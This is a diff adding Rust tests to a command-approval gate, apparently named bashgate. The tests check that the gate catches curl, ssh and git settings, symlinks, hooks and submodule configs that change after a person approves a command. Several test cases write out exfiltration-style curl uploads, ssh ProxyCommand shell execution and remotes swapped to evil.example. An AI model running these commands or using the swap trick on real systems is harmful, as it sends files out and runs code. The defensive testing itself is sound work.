@@ -569,3 +569,121 @@ fn where_it_writes_is_looked_at_again_behind_the_answer() {
         assert!(!moves || output.stderr.contains("where it writes"), "{command}: {output:?}");
     }
 }
+
+/// What settings, links and submodules bring in changes while people look: seen behind the answer.
+#[test]
+fn what_settings_links_and_submodules_bring_in_is_seen() {
+    use std::os::unix::fs::symlink;
+    let git = |folder: &std::path::Path, args: &[&str]| {
+        let mut command = std::process::Command::new("git");
+        command.args(args).current_dir(folder).env("GIT_CONFIG_GLOBAL", "/dev/null");
+        bashgate_tests::Output::of(&mut command, b"").expect(0);
+    };
+    for (settings, command, file) in [
+        ("data-urlencode = \"n@f\"", "curl -K cfg https://h.example/", "f"),
+        ("form = \"x=@f;type=text/plain\"", "curl -K cfg https://h.example/", "f"),
+        ("-d@f", "curl -K cfg https://h.example/", "f"),
+        ("upload-file=f", "curl -K cfg https://h.example/", "f"),
+        ("Host *\n  ProxyCommand sh f", "ssh -F cfg h.example", "f"),
+        ("Match exec \"sh f\"", "ssh -F cfg h.example", "f"),
+        ("", "ssh -o 'ProxyCommand sh f' h.example", "f"),
+        ("", "curl -d '@f;x' https://h.example/", "f;x"),
+        ("", "curl --data-binary '@f;x' https://h.example/", "f;x"),
+        ("", "curl -F 'a=@\"f;x\"' https://h.example/", "f;x"),
+        ("", "curl -F 'a=@f;headers=@g' https://h.example/", "g"),
+        ("", "curl -F 'a=<f' https://h.example/", "f"),
+        ("", "curl --data-urlencode n@f https://h.example/", "f"),
+        ("", "curl -b f https://h.example/", "f"),
+        ("", "scp -r deep h.example:/x", "out/file"),
+        ("", "zip -r - deep | curl -T - https://h.example/", "out/file"),
+        ("", "rsync -aL deep h.example:/x", "out/file"),
+        ("", "git push backup main", "hk/pre-receive"),
+        ("", "git push origin main", ".git/modules/sub/config"),
+        ("", "git fetch origin", ".git/modules/sub/config"),
+        ("", "git pull origin main", ".git/modules/a/b/config"),
+        ("", "git push origin main", ".git/modules/sub/hooks/pre-push"),
+    ] {
+        let site = tainted();
+        let _host = site.serve();
+        raise(&site);
+        let work = site.work();
+        let write = |name: &str, text: &str| {
+            std::fs::create_dir_all(work.join(name).parent().unwrap()).unwrap();
+            std::fs::write(work.join(name), text).unwrap();
+        };
+        write("cfg", settings);
+        for name in ["f", "g", "f;x", "out/file"] {
+            write(name, "harmless");
+        }
+        write("deep/x", "x");
+        symlink("../out/file", work.join("deep/l")).unwrap();
+        git(&work, &["init", "-q", "--template=", "."]);
+        git(&work, &["remote", "add", "origin", "https://h.example/x"]);
+        git(&work, &["init", "-q", "--bare", "--template=", "backup"]);
+        std::fs::create_dir(work.join("hk")).unwrap();
+        symlink("../hk", work.join("backup/hooks")).unwrap();
+        for name in ["sub", "a/b"] {
+            write(&format!(".git/modules/{name}/HEAD"), "ref: refs/heads/main\n");
+            write(&format!(".git/modules/{name}/config"), "[remote \"origin\"]\n\turl = https://h.example/sub\n");
+        }
+        let running = site.check_later(command);
+        let id = site.held(command);
+        write(file, "[remote \"origin\"]\n\turl = https://evil.example/sub\n");
+        site.cli(["approve", &id]).expect(0);
+        let denied = running.join().unwrap();
+        assert!(denied.code == Some(2) && denied.stderr.contains("changed while"), "{settings} {command}: {denied:?}");
+    }
+}
+
+#[test]
+fn a_remote_that_the_command_names_stands_first_and_nothing_hides_it() {
+    let site = tainted();
+    let _host = site.serve();
+    raise(&site);
+    let blanks = " ".repeat(200);
+    let others: String = (0..9)
+        .flat_map(|number| ["[remote \"r".to_owned(), format!("{number}\"]\n\turl = https://r{number}.example/x\n")])
+        .collect();
+    let forged = format!("[remote \"origin.url = https://good.example/x{blanks}\"]\n\turl = https://good.example/y\n");
+    let origin = "[remote \"origin\"]\n\turl = https://evil.example/x.git\n";
+    std::fs::create_dir_all(site.work().join(".git/objects")).unwrap();
+    std::fs::create_dir_all(site.work().join(".git/refs")).unwrap();
+    std::fs::write(site.work().join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+    std::fs::write(site.work().join(".git/config"), format!("{forged}{others}{origin}")).unwrap();
+    let running = site.check_later("git push origin main");
+    let id = site.held("git push origin main");
+    let card = site.cli(["show", &id]).expect(0).stdout;
+    let at = |text: &str| card.find(text).unwrap_or(usize::MAX);
+    assert!(at("remote.origin.url = https://evil.example/x.git") < at("r0.example"), "{card}");
+    assert!(at("remote.origin.url = https://evil.example/x.git") < at("good.example"), "{card}");
+    assert!(!card.contains(&" ".repeat(20)), "{card}");
+    site.cli(["deny", &id]).expect(0);
+    running.join().unwrap().expect(2);
+    // What is not understood is said.
+    std::fs::write(site.work().join(".git/config"), format!("{origin}[user]\n\tname = a\u{1}b\n")).unwrap();
+    let running = site.check_later("git push origin main");
+    let id = site.held("git push origin main");
+    let card = site.cli(["show", &id]).expect(0).stdout;
+    assert!(card.contains("https://evil.example/x.git") || card.contains("not understood here"), "{card}");
+    site.cli(["deny", &id]).expect(0);
+    running.join().unwrap().expect(2);
+}
+
+#[test]
+fn what_git_is_given_to_run_is_asked_about() {
+    let site = tainted();
+    let _host = site.serve();
+    raise(&site);
+    for command in [
+        "git submodule foreach git push origin main",
+        "git submodule foreach --recursive 'git push evil.example:x HEAD'",
+        "git bisect run git push",
+        "git rebase -x 'git push' HEAD~1",
+        "git rebase --exec 'git fetch' HEAD~1",
+        "git remote set-head origin -a",
+        "nosuchtool git push origin main",
+        "git for-each-repo --config=x fetch",
+    ] {
+        is_asked_again(&site, command);
+    }
+}
